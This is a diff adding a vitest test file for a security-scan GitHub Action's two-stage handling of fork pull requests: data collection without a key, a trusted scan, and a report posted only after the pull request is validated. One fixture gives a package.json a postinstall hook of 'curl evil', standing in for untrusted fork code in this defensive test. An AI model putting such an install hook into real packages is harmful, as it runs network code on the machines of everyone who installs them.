@@ -1,0 +1,243 @@
+// The two-stage recipe for fork pull requests, end to end: the untrusted `pull_request` run collects data
+// only (no key, nothing run); the trusted `workflow_run` run scans with the key and judges that data; and
+// `command: report` posts the report to the pull request only once GitHub confirms it is the right one.
+import { copyFileSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { PULL_HEAD_SHA } from '../../simulator/github/stand-in.ts';
+import { writeCheckout } from '../../simulator/runner/checkout.ts';
+import {
+  API_KEY,
+  PR,
+  requestsTo,
+  runInWorld,
+  startWorld,
+  stickyComments,
+  WRITE_TOKEN,
+  type World,
+} from './harness.ts';
+
+const LOCK_FILE = JSON.stringify({
+  name: 'app',
+  lockfileVersion: 3,
+  packages: { '': { name: 'app' }, 'node_modules/left-pad': { version: '1.3.0' } },
+});
+const SITE = 'https://fork-recipe.example.com';
+const BASE_SHA = 'b'.repeat(40);
+
+let world: World;
+let checkout: string;
+beforeAll(async () => {
+  world = await startWorld();
+  checkout = writeCheckout({
+    'package-lock.json': LOCK_FILE,
+    'web/yarn.lock': '# yarn lockfile v1\n',
+    'src/app.js': 'console.log(1)\n',
+    'package.json': '{"scripts":{"postinstall":"curl evil"}}',
+  });
+  world.github.pullFiles.set(PR, [
+    { filename: 'package-lock.json', status: 'modified' },
+    { filename: 'src/app.js', status: 'added' },
+  ]);
+});
+afterAll(async () => {
+  await world.close();
+  rmSync(checkout, { recursive: true, force: true });
+});
+afterEach(() => {
+  world.github.pulls.set(PR, { state: 'open', headSha: PULL_HEAD_SHA, baseRepo: world.github.repo });
+  world.github.issues.get(PR)?.comments.splice(0);
+});
+
+const forkPullRequest = {
+  eventName: 'pull_request',
+  event: {
+    pull_request: {
+      number: PR,
+      head: { sha: PULL_HEAD_SHA, repo: { full_name: 'someone/octo-repo' } },
+      base: { sha: BASE_SHA, repo: { full_name: 'octo-org/octo-repo' } },
+    },
+  },
+};
+const workflowRun = (headSha = PULL_HEAD_SHA) => ({
+  eventName: 'workflow_run',
+  event: { workflow_run: { head_sha: headSha, event: 'pull_request' } },
+});
+
+/** Stage one in the fork's run: no key, the read-only token. */
+async function collect(spawn = false): Promise<string> {
+  const folder = join(mkdtempSync(join(world.scratch, 'ssa-data-')), 'pr-data');
+  const run = await runInWorld(
+    world,
+    {
+      command: 'collect',
+      'api-key': '',
+      'base-url': '',
+      'pull-request-data': folder,
+      'github-token': 'ghs_read',
+    },
+    { ...forkPullRequest, workspace: checkout, spawn },
+  );
+  expect(run.exitCode, run.stdout).toBe(0);
+  return folder;
+}
+
+/** Stage two in the trusted run: the key, the data as downloaded. */
+const scanData = (folder: string, headSha?: string) =>
+  runInWorld(
+    world,
+    { site: SITE, 'pull-request-data': folder, 'github-token': WRITE_TOKEN },
+    workflowRun(headSha),
+  );
+
+const report = (file: string, number = String(PR), headSha?: string) =>
+  runInWorld(
+    world,
+    {
+      command: 'report',
+      'api-key': '',
+      'base-url': '',
+      'report-file': file,
+      'pull-request-number': number,
+      'github-token': WRITE_TOKEN,
+      comment: 'always',
+    },
+    workflowRun(headSha),
+  );
+
+const listed = (dir: string): string[] =>
+  readdirSync(dir, { recursive: true, withFileTypes: true })
+    .filter((e) => e.isFile())
+    .map((e) => join(e.parentPath, e.name).slice(dir.length + 1))
+    .sort();
+
+describe('collect', () => {
+  it('writes exactly the data files, with no key and no request to the service', async () => {
+    const before = world.service.requests.length;
+    const folder = await collect();
+    expect(listed(folder)).toEqual([
+      'lock-files/package-lock.json',
+      'lock-files/web/yarn.lock',
+      'pull-request.json',
+    ]);
+    expect(readFileSync(join(folder, 'lock-files/package-lock.json'), 'utf8')).toBe(LOCK_FILE);
+    expect(JSON.parse(readFileSync(join(folder, 'pull-request.json'), 'utf8'))).toEqual({
+      format: 'security-scan-action/pull-request-data@1',
+      repository: 'octo-org/octo-repo',
+      pullRequest: PR,
+      headSha: PULL_HEAD_SHA,
+      baseSha: BASE_SHA,
+      changedFiles: ['package-lock.json', 'src/app.js'],
+      lockFiles: ['package-lock.json', 'web/yarn.lock'],
+    });
+    expect(world.service.requests.length).toBe(before);
+    expect(world.github.requests.filter((r) => r.method !== 'GET')).toEqual([]);
+  });
+
+  it('writes the same data from the built bundle, as the runner starts it', async () => {
+    const folder = await collect(true);
+    expect(listed(folder)).toEqual([
+      'lock-files/package-lock.json',
+      'lock-files/web/yarn.lock',
+      'pull-request.json',
+    ]);
+  });
+
+  it('refuses a folder that is not empty, and a run that is not on a pull request', async () => {
+    const folder = await collect();
+    const again = await runInWorld(
+      world,
+      { command: 'collect', 'api-key': '', 'pull-request-data': folder },
+      { ...forkPullRequest, workspace: checkout },
+    );
+    expect(again.stdout).toMatch(/::error::.*'pull-request-data' is the folder .* which is not empty/);
+    expect(again.stdout).not.toMatch(/PR comment/);
+    const listedWrongly = await runInWorld(
+      world,
+      { command: 'collect', 'pull-request-data': join(folder, 'y'), dependencies: 'src/app.js' },
+      { ...forkPullRequest, workspace: checkout },
+    );
+    expect(listedWrongly.summary).toMatch(/- src\/app\.js: .*not a lock file/);
+    const push = await runInWorld(world, { command: 'collect', 'pull-request-data': join(folder, 'x') });
+    expect(push.stdout).toMatch(
+      /::error::.*Command 'collect' runs on pull_request events \(this run is 'push'\)/,
+    );
+  });
+});
+
+describe('the trusted run', () => {
+  it("scans with the key and judges the data's lock files; the report names the pull request and commit", async () => {
+    const folder = await collect();
+    const before = requestsTo(world, '/agent/sites').length;
+    const run = await scanData(folder);
+    expect(run.exitCode, run.stdout).toBe(0);
+    const uploads = requestsTo(world, '/agent/sites')
+      .slice(before)
+      .filter((r) => r.path.endsWith('/dependencies'));
+    expect(uploads).toHaveLength(1);
+    expect(JSON.stringify(uploads[0]?.body)).toContain('left-pad');
+    expect(run.report?.pullRequest).toEqual({
+      number: PR,
+      headSha: PULL_HEAD_SHA,
+      baseSha: BASE_SHA,
+      changedFiles: 2,
+    });
+    expect(run.summary).toMatch(/Local checks: not run on a pull request's data/);
+    expect(stickyComments(world)).toEqual([]);
+    expect(run.masked).toEqual([API_KEY]);
+  });
+
+  it('posts the report to the validated pull request with command: report, from the downloaded folder', async () => {
+    const scan = await scanData(await collect());
+    expect(scan.outputs['pull-request-number']).toBe(String(PR));
+    const downloaded = mkdtempSync(join(world.scratch, 'ssa-download-'));
+    copyFileSync(scan.outputs['report-file'] ?? '', join(downloaded, 'security-scan-scan.json'));
+    const run = await report(downloaded);
+    expect(run.exitCode, run.stdout).toBe(0);
+    expect(run.stdout).toMatch(/PR comment on #7 \(a{40}\): created; the report's verdict: pass/);
+    const [comment] = stickyComments(world);
+    expect(comment?.body).toMatch(/Security scan passed/);
+    expect(run.summary).toMatch(/^## ✅ Security scan passed/);
+    expect(run.masked).toEqual([]);
+  });
+
+  it.each([
+    ['a closed pull request', { state: 'closed' as const }, /pull request #7 is closed, not open/],
+    [
+      'a pull request of another repository',
+      { baseRepo: 'other/repo' },
+      /opened against other\/repo, not this repository/,
+    ],
+    [
+      'a head that moved on',
+      { headSha: 'c'.repeat(40) },
+      /is now at c{40}, not at the commit the report judged \(a{40}\)/,
+    ],
+  ])('refuses %s, naming what did not match', async (_what, change, message) => {
+    const scan = await scanData(await collect());
+    world.github.pulls.set(PR, {
+      state: 'open',
+      headSha: PULL_HEAD_SHA,
+      baseRepo: world.github.repo,
+      ...change,
+    });
+    const run = await report(scan.outputs['report-file'] ?? '');
+    expect(run.exitCode).toBe(1);
+    expect(run.stdout).toMatch(message);
+    expect(stickyComments(world)).toEqual([]);
+  });
+
+  it('refuses a number that is not a pull request of this repository, or not the one the report judged', async () => {
+    const scan = await scanData(await collect());
+    const file = scan.outputs['report-file'] ?? '';
+    expect((await report(file, '99')).stdout).toMatch(/the report is of pull request #7, not #99/);
+    expect((await report(file, '7', 'd'.repeat(40))).stdout).toMatch(/this run follows a run for d{40}/);
+    expect(stickyComments(world)).toEqual([]);
+  });
+
+  it('refuses a report file that was not made from pull-request data', async () => {
+    const plain = await runInWorld(world, { site: SITE, dependencies: 'none', 'local-checks': 'none' });
+    const run = await report(plain.outputs['report-file'] ?? '');
+    expect(run.stdout).toMatch(/::error::.*names no pull request: it is not a scan of 'pull-request-data'/);
+  });
+});
